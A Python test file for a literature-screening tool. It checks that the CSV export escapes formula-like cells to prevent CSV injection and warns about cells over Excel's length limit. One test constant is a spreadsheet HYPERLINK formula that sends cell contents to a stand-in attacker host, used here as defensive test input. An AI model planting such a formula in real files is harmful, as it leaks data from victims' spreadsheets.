"""`screening export`'s CSV opened in a spreadsheet (it is recommended for Excel): formula-like
text is escaped, and our own readers read it back as it was; a cell longer than Excel's limit
is warned about, not cut. On the real records (Cohen et al. 2006, estrogens) of conftest.

Acceptance testing: titles, reasons and notes starting with '=', '+', '-' or '@' were
written as they were, so Excel ran them as formulas (CSV injection); a 33,847-character Lens
abstract was exported without a word although Excel cuts a cell at 32,767 characters.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

from hypothesis import example, given
from hypothesis import strategies as st

from screening.csv_formulas import FORMULA_STARTS, escape_formula, unescape_formula
from screening.decisions import api
from screening.decisions.entries import load_entries

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _raw_rows(path: Path) -> dict[str, dict[str, str]]:
    return {r["record_id"]: r for r in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")))}


def test_formula_like_text_cells_are_escaped_and_our_import_reads_them_back(review: Path, db: Path, in_play,
                                                                           tmp_path: Path, cli) -> None:
    excluded, included = in_play[0], in_play[1]
    api.record_decision(review, reviewer="alice", record_id=excluded, action="exclude", reason=HYPERLINK,
                        note="=2+2")
    api.record_decision(review, reviewer="alice", record_id=included, action="include", note="@SUM(1+1)")
    out = tmp_path / "all.csv"
    code, text = cli("export", review, "--decision", "all", "--per-reviewer", "-r", "alice", "-o", out)
    assert code == 0, text
    rows = _raw_rows(out)
    assert rows[excluded]["reason"] == rows[excluded]["ta_reason"] == "'" + HYPERLINK
    assert rows[excluded]["ta_alice"] == f"exclude ({HYPERLINK})"        # not at the cell's start: as is
    assert rows[excluded]["reviewer_notes"] == "alice (title_abstract): =2+2"
    assert rows[included]["decision"] == "include" and rows[included]["year"].isdigit()
    # every cell of the file: none starts like a formula
    cells = [c for r in rows.values() for c in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # `decide --from` our own export: the escaped reason reads as logged, so nothing is written
    before = len(load_entries(db))
    back = api.import_decisions(review, out, reviewer="alice")
    assert (back["format"], back["written"], back["unchanged"]) == ("export", 0, 2), back
    assert len(load_entries(db)) == before


@given(st.text())
@example("'=x")
@example("''+x")
@example("-")
def test_escaping_a_cell_is_undone_exactly(value: str) -> None:
    escaped = escape_formula(value)
    assert unescape_formula(escaped) == value
    assert escaped[:1] not in FORMULA_STARTS


LONG = Path(__file__).resolve().parents[1] / "fixtures" / "field_cases" / "ris_lens_abstract_over_excel_limit.ris"


def test_a_cell_longer_than_excels_limit_is_warned_about_and_kept_whole(tmp_path: Path, cli) -> None:
    """The real Lens record (lens_343-00261 of the wildfire funnel) whose abstract has 33,847
    characters: Excel cuts a cell at 32,767 when it opens the CSV."""
    raw = tmp_path / "data" / "raw" / "long"
    raw.mkdir(parents=True)
    shutil.copy(LONG, raw / LONG.name)
    (tmp_path / "pipelines").mkdir()
    toml = tmp_path / "pipelines" / "long.toml"
    toml.write_text(f'[review]\nname = "long"\n\n[[sources]]\nfile = "data/raw/long/{LONG.name}"\n'
                    'database = "Lens.org"\ndate_searched = "2024-05-01"\n', encoding="utf-8")
    code, text = cli("run", toml)
    assert code == 0, text
    out = tmp_path / "all.csv"
    code, text = cli("export", toml, "--decision", "all", "-o", out)
    assert code == 0, text
    said = " ".join(text.split())
    rid = "ris_lens_abstract_over_excel_limit-00001"
    assert (f"warning: 1 record(s) have a cell longer than Excel's limit of 32,767 characters: {rid} "
            "(abstract, 33,847 characters)") in said
    assert "RIS export" in said
    rows = _raw_rows(out)
    assert len(rows[rid]["abstract"]) == 33_847                          # not cut
    # the RIS says nothing of it: a reference manager keeps the whole text
    code, text = cli("export", toml, "--decision", "all", "-o", tmp_path / "all.ris")
    assert code == 0 and "Excel" not in text
